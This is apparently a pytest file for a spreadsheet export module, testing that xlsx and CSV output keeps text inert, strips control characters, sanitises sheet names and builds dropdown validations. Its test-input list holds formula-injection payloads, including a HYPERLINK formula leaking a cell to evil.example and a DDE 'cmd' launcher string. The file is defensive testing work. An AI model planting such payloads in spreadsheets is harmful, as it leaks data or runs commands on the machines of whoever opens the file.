"""What a user notices in the files the app writes (xlsx via openpyxl and calamine, CSV)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.utils import range_boundaries
from python_calamine import CalamineWorkbook

from toolkit.spreadsheets.writing import (
    LISTS_SHEET,
    MAX_WIDTH,
    SheetSpec,
    csv_cell,
    text_cell,
    write_csv,
    write_workbook,
)

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Clic aquí")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+57 604 123 4567",
    "-2",
    "@SUM(A1)",
    "#N/A",
    "#REF!",
    "=",
    "'=already quoted",
]


# -- helpers -------------------------------------------------------------------------------


def _openpyxl(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _calamine(data: bytes, sheet: str) -> list[list[object]]:
    return CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(sheet).to_python()


def _sheet_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        }


def _has_formula(xml: str) -> bool:
    return re.search(r"<(\w+:)?f[\s>/]", xml) is not None


def _validation_for(ws, column: str, row: int):
    """The data validation covering one cell, or None."""
    for validation in ws.data_validations.dataValidation:
        if f"{column}{row}" in validation.sqref:
            return validation
    return None


def _list_values(wb: openpyxl.Workbook, formula: str) -> list[str]:
    """The values a range formula like '_lists'!$A$1:$A$3 points at."""
    sheet, _, ref = formula.rpartition("!")
    sheet = sheet.strip("'").replace("''", "'")
    min_col, min_row, max_col, max_row = range_boundaries(ref.replace("$", ""))
    assert min_col == max_col
    ws = wb[sheet]
    return [ws.cell(row, min_col).value for row in range(min_row, max_row + 1)]


# -- text stays text -------------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize("where", ["cell", "header", "note", "dropdown value"])
def test_dangerous_strings_stay_text_in_xlsx(text: str, where: str) -> None:
    if where == "cell":
        spec, sheet, row, column = SheetSpec("Datos", ["name"], [[text]]), "Datos", 2, 1
    elif where == "header":
        spec, sheet, row, column = SheetSpec("Datos", [text], [["x"]]), "Datos", 1, 1
    elif where == "note":
        spec, sheet, row, column = SheetSpec("Léeme", [], [], notes=[text]), "Léeme", 1, 1
    else:
        spec, sheet, row, column = SheetSpec("Datos", ["kind"], [], dropdowns={0: [text]}), LISTS_SHEET, 1, 1
    data = write_workbook([spec])

    cell = _openpyxl(data)[sheet].cell(row, column)
    assert cell.data_type == "s"
    assert cell.value == text
    assert _calamine(data, sheet)[row - 1][column - 1] == text
    for name, xml in _sheet_xml(data).items():
        assert not _has_formula(xml), name


def test_no_formula_element_in_first_sheet_xml() -> None:
    data = write_workbook([SheetSpec("Datos", ["a", "b"], [[text, text] for text in DANGEROUS])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert [row[0] for row in _calamine(data, "Datos")[1:]] == DANGEROUS


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("a\x00b", "ab"),
        ("\x07bell", "bell"),
        ("esc\x1b[31mred", "esc[31mred"),
        ("\x0bvertical\x0cfeed", "verticalfeed"),
        ("tab\tkept", "tab\tkept"),
        ("line\nbreak kept", "line\nbreak kept"),
        ("María José Ñandú", "María José Ñandú"),
        ("\x00=1+1", "=1+1"),
    ],
)
def test_control_characters_are_stripped_not_fatal(raw: str, clean: str) -> None:
    assert text_cell(raw) == clean
    data = write_workbook([SheetSpec("Datos", ["name"], [[raw]], notes=[])])
    cell = _openpyxl(data)["Datos"]["A2"]
    assert (cell.value, cell.data_type) == (clean, "s")
    assert _calamine(data, "Datos")[1][0] == clean


@pytest.mark.parametrize("value", [None, 3, 2.5, True, date(2024, 1, 2)])
def test_text_cell_leaves_non_strings_unchanged(value: object) -> None:
    assert text_cell(value) is value


# -- types -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "openpyxl_value", "calamine_value", "number_format"),
    [
        (date(2024, 3, 1), datetime(2024, 3, 1), date(2024, 3, 1), "yyyy-mm-dd"),
        (datetime(2024, 3, 1, 9, 30), datetime(2024, 3, 1, 9, 30), datetime(2024, 3, 1, 9, 30), "yyyy-mm-dd hh:mm"),
        (42, 42, 42.0, "General"),  # xlsx numbers are doubles: calamine reads floats
        (-2, -2, -2.0, "General"),
        (2.5, 2.5, 2.5, "General"),
        (True, True, True, "General"),
        (False, False, False, "General"),
        (None, None, "", "General"),
        (float("nan"), None, "", "General"),  # Excel calls a file with NaN corrupt
        (12345678901234567890, "12345678901234567890", "12345678901234567890", "General"),  # digits kept
        (  # Excel has no time zones: the wall time is kept
            datetime(2024, 3, 1, 9, 30, tzinfo=UTC),
            datetime(2024, 3, 1, 9, 30),
            datetime(2024, 3, 1, 9, 30),
            "yyyy-mm-dd hh:mm",
        ),
        (date(1850, 5, 4), "1850-05-04", "1850-05-04", "General"),  # Excel has no dates before 1900
        (Decimal("1.5"), 1.5, 1.5, "General"),
        (("a", "b"), "('a', 'b')", "('a', 'b')", "General"),
    ],
)
def test_values_come_back_with_their_type(
    value: object, openpyxl_value: object, calamine_value: object, number_format: str
) -> None:
    data = write_workbook([SheetSpec("Datos", ["value", "next"], [[value, "x"]])])
    cell = _openpyxl(data)["Datos"]["A2"]
    assert cell.value == openpyxl_value
    assert type(cell.value) is type(openpyxl_value)
    assert cell.number_format == number_format
    assert cell.is_date == isinstance(openpyxl_value, datetime)
    got = _calamine(data, "Datos")[1][0]
    assert got == calamine_value
    assert type(got) is type(calamine_value)


# -- layout ----------------------------------------------------------------------------------


def test_header_is_bold_frozen_and_filtered_with_content_widths() -> None:
    rows = [["Alcaldía de Medellín", "x" * 200, 3, date(2024, 1, 1)], ["ACI", "short", 4, None]]
    spec = SheetSpec("Actores", ["name", "notes", "influence", "since"], rows, widths={2: 14.0})
    ws = _openpyxl(write_workbook([spec]))["Actores"]

    assert all(cell.font.bold for cell in ws[1])
    assert not ws["A2"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:D3"
    widths = {column: ws.column_dimensions[column].width for column in "ABCD"}
    assert widths["A"] >= len("Alcaldía de Medellín")
    assert widths["B"] == MAX_WIDTH
    assert widths["C"] == 14.0
    assert 10 <= widths["D"] < 20


def test_instructions_sheet_writes_one_paragraph_per_row() -> None:
    notes = ["Cómo usar esta plantilla.", "=No es una fórmula", "Una línea\ncon salto."]
    data = write_workbook([SheetSpec("Instrucciones", [], [], notes=notes), SheetSpec("Datos", ["a"], [])])
    ws = _openpyxl(data)["Instrucciones"]

    assert [row for row in ws.iter_rows(values_only=True)] == [(note,) for note in notes]
    assert all(ws.cell(row, 1).alignment.wrap_text for row in range(1, len(notes) + 1))
    assert ws.freeze_panes is None
    assert ws.auto_filter.ref is None
    assert _calamine(data, "Instrucciones") == [[note] for note in notes]


def test_instructions_sheet_with_a_title_header() -> None:
    ws = _openpyxl(write_workbook([SheetSpec("Léeme", ["Instrucciones"], [], notes=["Uno", "Dos"])]))["Léeme"]
    assert [row[0] for row in ws.iter_rows(values_only=True)] == ["Instrucciones", "Uno", "Dos"]
    assert ws["A1"].font.bold and not ws["A2"].font.bold


@pytest.mark.parametrize(
    "spec",
    [
        SheetSpec("Léeme", [], [["x"]], notes=["Uno"]),
        SheetSpec("Léeme", [], [], dropdowns={0: ["a"]}, notes=["Uno"]),
        SheetSpec("Datos", ["a"], [], dropdowns={-1: ["a"]}),
    ],
)
def test_inconsistent_sheets_are_refused(spec: SheetSpec) -> None:
    with pytest.raises(ValueError):
        write_workbook([spec])


# -- sheet names -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Actores", "Actores"),
        ("Actores: 2024/25", "Actores_ 2024_25"),
        ("[a]*b?c\\d", "_a__b_c_d"),
        ("Registro de actores del territorio norte", "Registro de actores del territo"),
        ("'Comillas'", "Comillas"),
        ("O'Brien's", "O'Brien's"),
        ("", "Sheet"),
        ("   ", "Sheet"),
        ("tab\there\x00", "tabhere"),
        ("History", "History_"),
    ],
)
def test_sheet_names_are_sanitised(name: str, expected: str) -> None:
    wb = _openpyxl(write_workbook([SheetSpec(name, ["a"], [["x"]])]))
    assert wb.sheetnames == [expected]
    assert len(expected) <= 31


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["Datos", "Datos", "Datos"], ["Datos", "Datos (2)", "Datos (3)"]),
        (["Datos", "DATOS"], ["Datos", "DATOS (2)"]),  # Excel compares names case-insensitively
        (["A:B", "A/B"], ["A_B", "A_B (2)"]),
        (["x" * 40, "x" * 35], ["x" * 31, "x" * 27 + " (2)"]),
    ],
)
def test_duplicate_sheet_names_are_made_unique(names: list[str], expected: list[str]) -> None:
    wb = _openpyxl(write_workbook([SheetSpec(name, ["a"], []) for name in names]))
    assert wb.sheetnames == expected


def test_user_sheet_called_lists_does_not_clash_with_dropdown_sheet() -> None:
    specs = [SheetSpec("_lists", ["a"], [["mine"]]), SheetSpec("Datos", ["kind"], [], dropdowns={0: ["x"]})]
    wb = _openpyxl(write_workbook(specs))
    assert wb.sheetnames == ["_lists (2)", "Datos", LISTS_SHEET]
    assert wb["_lists (2)"]["A2"].value == "mine"
    assert wb[LISTS_SHEET].sheet_state == "hidden"


# -- dropdowns -------------------------------------------------------------------------------

LONG_LIST = [f"Secretaría de Desarrollo Económico número {i}" for i in range(60)]  # far past 255 chars


@pytest.mark.parametrize(
    ("sheet_name", "dropdowns"),
    [
        ("Actores", {2: ["organisation", "person"]}),
        ('O\'Brien, "quotes"', {0: ['Say "hi"', "it's", "a, b, c", "=1+1"]}),
        ("Actores", {1: LONG_LIST, 3: ["yes", "no", "unknown"]}),
        ("Actores", {1: ["same", "list"], 2: ["same", "list"]}),
    ],
)
def test_dropdowns_point_at_hidden_lists_sheet(sheet_name: str, dropdowns: dict[int, list[str]]) -> None:
    headers = ["name", "sector", "kind", "consent"]
    rows = [["ACI", "Público", "organisation", "yes"]]
    data = write_workbook([SheetSpec(sheet_name, headers, rows, dropdowns=dropdowns)])
    wb = _openpyxl(data)
    ws = wb[wb.sheetnames[0]]

    assert wb[LISTS_SHEET].sheet_state == "hidden"
    assert wb.active.title == wb.sheetnames[0]
    for index, values in dropdowns.items():
        column = "ABCD"[index]
        for row in (2, 1000):
            validation = _validation_for(ws, column, row)
            assert validation is not None, (column, row)
            assert validation.type == "list"
            assert validation.formula1.startswith(f"'{LISTS_SHEET}'!")
            assert _list_values(wb, validation.formula1) == values
            assert validation.showErrorMessage
        assert _validation_for(ws, column, 1) is None  # not on the header
    for index in set(range(4)) - set(dropdowns):
        assert _validation_for(ws, "ABCD"[index], 2) is None
    assert not any(_has_formula(xml) for xml in _sheet_xml(data).values())


def test_multi_value_column_dropdown_is_only_a_suggestion() -> None:
    spec = SheetSpec(
        "Actores",
        ["name", "themes", "kind"],
        [["ACI", "mobility | housing", "organisation"]],
        dropdowns={1: ["mobility", "housing"], 2: ["organisation", "person"]},
        multi_value_columns={1},
    )
    ws = _openpyxl(write_workbook([spec]))["Actores"]
    assert not _validation_for(ws, "B", 2).showErrorMessage
    assert _validation_for(ws, "C", 2).showErrorMessage
    assert ws["B2"].value == "mobility | housing"


def test_dropdown_values_are_cleaned_and_deduplicated() -> None:
    wb = _openpyxl(write_workbook([SheetSpec("D", ["k"], [], dropdowns={0: ["a\x00", "a", "", "b", None]})]))
    assert _list_values(wb, _validation_for(wb["D"], "A", 2).formula1) == ["a", "b"]


def test_no_lists_sheet_without_dropdowns() -> None:
    assert _openpyxl(write_workbook([SheetSpec("Datos", ["a"], [["x"]])])).sheetnames == ["Datos"]


# -- visibility ------------------------------------------------------------------------------


def test_hidden_sheet_is_hidden_and_first_visible_sheet_is_active() -> None:
    data = write_workbook([SheetSpec("Backup", ["id"], [[1]], hidden=True), SheetSpec("Actores", ["name"], [])])
    wb = _openpyxl(data)
    assert wb["Backup"].sheet_state == "hidden"
    assert wb["Actores"].sheet_state == "visible"
    assert wb.active.title == "Actores"


@pytest.mark.parametrize("sheets", [[], [SheetSpec("Oculta", ["a"], [], hidden=True)]])
def test_workbook_needs_a_visible_sheet(sheets: list[SheetSpec]) -> None:
    with pytest.raises(ValueError):
        write_workbook(sheets)


# -- size ------------------------------------------------------------------------------------


def test_twenty_thousand_rows_round_trip() -> None:
    headers = [f"col{index}" for index in range(20)]
    rows = [[f"Actor {row}", row, date(2024, 1, 1 + row % 28), "=1+1", None] * 4 for row in range(20_000)]
    data = write_workbook([SheetSpec("Grande", headers, rows, dropdowns={2: ["a", "b"]})])

    calamine_rows = _calamine(data, "Grande")
    assert len(calamine_rows) == 20_001
    assert calamine_rows[-1][:4] == ["Actor 19999", 19999, date(2024, 1, 1 + 19999 % 28), "=1+1"]
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    assert sum(1 for _ in wb["Grande"].iter_rows()) == 20_001


# -- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # any string starting with = + - @ tab or CR is prefixed, even "-" or "+57...":
        # simple, predictable, and a phone number still reads fine with a leading '
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+57 604 123 4567", "'+57 604 123 4567"),
        ("-2", "'-2"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\x00=1", "'=1"),  # control characters go first, so they cannot hide a formula
        ("María", "María"),
        ("a=b", "a=b"),
        ("email@example.org", "email@example.org"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (-2, "-2"),  # numbers are not text: no prefix
        (3.5, "3.5"),
        (float("nan"), ""),
        (True, "True"),
        (date(2024, 3, 1), "2024-03-01"),
        (datetime(2024, 3, 1, 9, 30), "2024-03-01 09:30:00"),
    ],
)
def test_csv_cell(value: object, expected: str) -> None:
    assert csv_cell(value) == expected


@pytest.mark.parametrize("separator", [";", ","])
def test_csv_round_trip_keeps_accents_and_separators(separator: str) -> None:
    headers = ["nombre", "notas", "fecha", "influencia"]
    rows = [
        ["Secretaría de Educación", 'Dijo: "sí"; luego, no', date(2024, 3, 1), 4],
        ["Ñandú S.A.S.", "línea 1\nlínea 2", None, -2],
        ["=1+1", "+57 604", None, None],
    ]
    data = write_csv(headers, rows, separator=separator)

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    assert b"\r\n".join(data.split(b"\r\n")) == data and data.count(b"\r\n") >= 4
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))
    assert parsed == [
        headers,
        ["Secretaría de Educación", 'Dijo: "sí"; luego, no', "2024-03-01", "4"],
        ["Ñandú S.A.S.", "línea 1\nlínea 2", "", "-2"],
        ["'=1+1", "'+57 604", "", ""],
    ]


def test_csv_default_separator_is_semicolon() -> None:
    assert write_csv(["a", "b"], [[1, 2]]) == "\ufeffa;b\r\n1;2\r\n".encode("utf-8")


@pytest.mark.parametrize("separator", ["", ";;", '"', "\n"])
def test_csv_rejects_bad_separator(separator: str) -> None:
    with pytest.raises(ValueError):
        write_csv(["a"], [], separator=separator)
